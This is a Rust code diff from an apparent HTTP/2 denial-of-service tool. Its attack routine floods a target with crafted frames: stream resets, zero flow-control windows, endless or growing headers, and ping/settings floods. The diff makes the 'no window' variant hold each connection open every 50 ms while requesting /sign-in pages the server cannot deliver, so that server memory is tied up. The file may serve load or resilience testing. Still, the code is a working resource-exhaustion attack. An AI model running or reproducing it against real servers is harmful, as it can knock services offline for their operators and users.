@@ -28,10 +28,14 @@ const END_HEADERS: u8 = 4;
 /// `GET / https x`, in HPACK.
 const ASKS: [u8; 6] = [0x82, 0x87, 0x84, 0x41, 1, b'x'];
 
+const NO_WINDOW: &str = "no window";
+/// Between two connections that are held.
+const HOLDS_EVERY: Duration = Duration::from_millis(50);
+
 const WAYS: [(&str, fn() -> Vec<u8>); 6] = [
     ("taken back", taken_back),
     ("many streams", many_streams),
-    ("no window", no_window),
+    (NO_WINDOW, no_window),
     ("endless headers", endless_headers),
     ("headers that grow", headers_that_grow),
     ("pings and settings", pings),
@@ -60,8 +64,19 @@ pub(crate) async fn attack(arena: Arena, until: Instant) -> anyhow::Result<Tally
 async fn send(arena: &Arena, (name, way): (&str, fn() -> Vec<u8>), n: usize, until: Instant) -> Tally {
     let mut tally = Tally::default();
     let frames = way();
+    let mut held = Vec::new();
     while Instant::now() < until {
         match arena.target.tls_http2(machine(n)).await {
+            // Kept: what the server cannot send lies there meanwhile.
+            Ok(Some(mut stream)) if name == NO_WINDOW => {
+                let sent = async {
+                    stream.write_all(&frames).await?;
+                    stream.flush().await
+                };
+                tally.add(if sent.await.is_ok() { "no window: held" } else { "no window: closed" });
+                held.push(stream);
+                sleep(HOLDS_EVERY).await;
+            }
             Ok(Some(stream)) => {
                 let end = end_of(stream, &frames).await;
                 tally.add(format!("{name}: {end}"));
@@ -144,12 +159,14 @@ fn many_streams() -> Vec<u8> {
     sent
 }
 
-/// As many as the server takes, with answers that it may not send.
+/// As many pages as the server takes requests for, which it may not send.
 fn no_window() -> Vec<u8> {
     // SETTINGS_INITIAL_WINDOW_SIZE = 0
     let mut sent = greeting(&[0, 4, 0, 0, 0, 0]);
+    // The path in full, not put into the table.
+    let asks = [&[0x82_u8, 0x87, 0x04, 8][..], b"/sign-in", &[0x01, 1, b'x']].concat();
     for id in streams(100) {
-        sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &ASKS));
+        sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &asks));
     }
     sent
 }
